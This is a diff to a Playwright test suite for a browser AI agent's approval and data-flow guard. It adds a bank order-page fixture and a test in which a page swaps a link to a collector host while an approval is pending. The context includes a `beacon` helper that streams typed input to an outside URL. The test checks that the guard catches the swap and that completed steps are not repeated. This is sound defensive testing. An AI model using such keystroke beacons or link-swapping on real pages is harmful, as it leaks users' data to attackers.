@@ -59,6 +59,18 @@ const html = (title: string, body: string) =>
 const beacon = (field: string, to: string) =>
   `<script>document.getElementById(${JSON.stringify(field)}).addEventListener('input', (e) => { new Image().src = ${JSON.stringify(to)} + '?k=' + encodeURIComponent(e.target.value); });</script>`;
 
+/**
+ * The bank's order page: its button places an order (a POST to `/order`, counted by the bank's server) and counts it
+ * on the page; its link leads to the shop. A program step acting twice shows as a second POST.
+ */
+const ORDERS_PAGE = () =>
+  html(
+    'Orders',
+    `<h1>Orders</h1><p>Placed: <output id="placed">0</output></p><button id="place">Place order</button>
+     <p><a id="away" href="${shop.origin}/article.html">Widgets explained</a></p>
+     <script>let placed = 0; document.getElementById('place').addEventListener('click', () => { placed++; document.getElementById('placed').textContent = String(placed); fetch('/order', { method: 'POST', body: String(placed) }); });</script>`,
+  );
+
 let secret: Site;
 let hostile: Site;
 let collector: Site;
@@ -76,9 +88,10 @@ test.beforeAll(async () => {
       );
     return 'ok';
   });
-  secret = await startSite(() =>
-    html('Bank', `<h1>Your account</h1><p id="balance">Account number: ${SECRET}. Balance: 1,024.00</p>`),
-  );
+  secret = await startSite((p) => {
+    if (p === '/orders') return ORDERS_PAGE();
+    return html('Bank', `<h1>Your account</h1><p id="balance">Account number: ${SECRET}. Balance: 1,024.00</p>`);
+  });
   hostile = await startSite(() =>
     html(
       'A blog',
@@ -586,6 +599,91 @@ test('code mode: a program step only the flow rule asks about gets ONE inline ca
   } finally {
     await bank.page.close();
     if (!scratch.page.isClosed()) await scratch.page.close();
+    await panel.evaluate(() => localStorage.removeItem('otto.panel.current'));
+    await panel.reload();
+    await panel.getByTestId('worker-status').and(panel.locator('[data-state="ready"]')).waitFor();
+  }
+});
+
+test('code mode: a program that runs again after the card on ot.run does not repeat its completed steps — the order is placed once, and the model reads that step 1 was not run again', async ({
+  panel,
+  fakeApi,
+}) => {
+  test.setTimeout(120_000);
+  const yaml = `  mode: code\ntabs:\n  scope: all\napprovals:\n  local_hosts: [127.0.0.1, localhost]\n  allowed_origins: ["${secret.origin}"]\n`;
+  await connectToFakeApi(panel, fakeApi, { yaml });
+  const orders = await openTab(panel, `${secret.origin}/orders`);
+  const placedOrders = () => secret.hits.filter((h) => h.path === '/order').length;
+  const landed = () => collector.hits.filter((h) => h.path === '/landing').length;
+  // Step 1 places the order (on a site the user allowed: nothing to ask). Step 2 follows the link with the bank's
+  // page in the model's context: the flow rule asks on the step's own card.
+  const tab = orders.tabId;
+  const program = `placed = dom.click(tab_id=${tab}, selector="#place")\ndom.click(tab_id=${tab}, selector="#away")\nplaced`;
+  fakeApi.script([
+    { match: 'Place my order', calls: [{ name: 'ot__run', arguments: { code: `dom.text(tab_id=${tab})` } }] },
+    { match: /Placed: 0/, calls: [{ name: 'ot__run', arguments: { code: program } }] },
+    { text: 'Ordered.' },
+  ]);
+  try {
+    await panel.bringToFront();
+    await panel.getByTestId('new-conversation').click();
+    await panel.getByTestId('chat-input').fill('Place my order');
+    await panel.getByTestId('chat-input').press('Enter');
+    const asked = async () =>
+      (await events(panel)).filter((e) => e.type === 'approval.required').map((e) => e.approval as FlowApproval);
+
+    // 1. The link step's own card, the order already placed by step 1.
+    await expect.poll(async () => (await asked()).length).toBe(1);
+    const [step] = await asked();
+    expect([step!.name, !!step!.parentCallId, step!.flow?.sentence]).toEqual([
+      'dom.click',
+      true,
+      `Data read from ${secret.host} may be sent to ${shop.host}`,
+    ]);
+    expect(placedOrders()).toBe(1);
+    // 2. While it waits, the page sends the link elsewhere. The yes covers the shop; the guard's own check before
+    // the click sees the collector and stops the program: the card comes on ot.run, and a yes runs it again.
+    await orders.page.evaluate(
+      (to) => document.querySelector('#away')!.setAttribute('href', to),
+      `${collector.origin}/landing`,
+    );
+    await panel.getByTestId('approval-approve').click();
+    await expect.poll(async () => (await asked()).length).toBe(2);
+    const onRun = (await asked())[1]!;
+    expect([onRun.name, onRun.parentCallId, onRun.flow?.sentence]).toEqual([
+      'ot.run',
+      undefined,
+      `Data read from ${secret.host} may be sent to ${collector.host}`,
+    ]);
+    expect([placedOrders(), landed()]).toEqual([1, 0]);
+    await panel.getByTestId('approval-approve').click();
+    const id = (await events(panel)).find((e) => e.type === 'approval.required')!.conversationId;
+    await waitForStatus(panel, id, 'completed');
+
+    // 3. The program ran from the start, but the order is placed once: step 1's result came from the earlier run.
+    expect(placedOrders()).toBe(1);
+    expect(landed()).toBe(1);
+    expect(await asked()).toHaveLength(2);
+    // What the model read (the request after the program), its random parts masked.
+    const read = outputsSent(fakeApi.responsesRequests().at(-1)!)
+      .at(-1)!
+      .replace(/external-content-[0-9a-f]+/g, 'external-content-X')
+      .replace(/\[ref=\w+\]/g, '[ref=R]');
+    expect(read).toBe(
+      [
+        '[The user approved this call.]',
+        '[Step 1 of this program (dom.click on line 1) was not run again: it had completed in its earlier run, before the approval, and its result from then was used.]',
+        'dom.click ok — 1 changed.',
+        '<external-content-X>',
+        'clicked button "Place order" [ref=R]',
+        'changed: text of paragraph "Placed: 1" <p>: "Placed: 0" → "Placed: 1"',
+        'focus: button "Place order" [ref=R]',
+        `locator: {"role":"button","name":"Place order"} at "${secret.origin}/orders"`,
+        '</external-content-X>',
+      ].join('\n'),
+    );
+  } finally {
+    if (!orders.page.isClosed()) await orders.page.close();
     await panel.evaluate(() => localStorage.removeItem('otto.panel.current'));
     await panel.reload();
     await panel.getByTestId('worker-status').and(panel.locator('[data-state="ready"]')).waitFor();
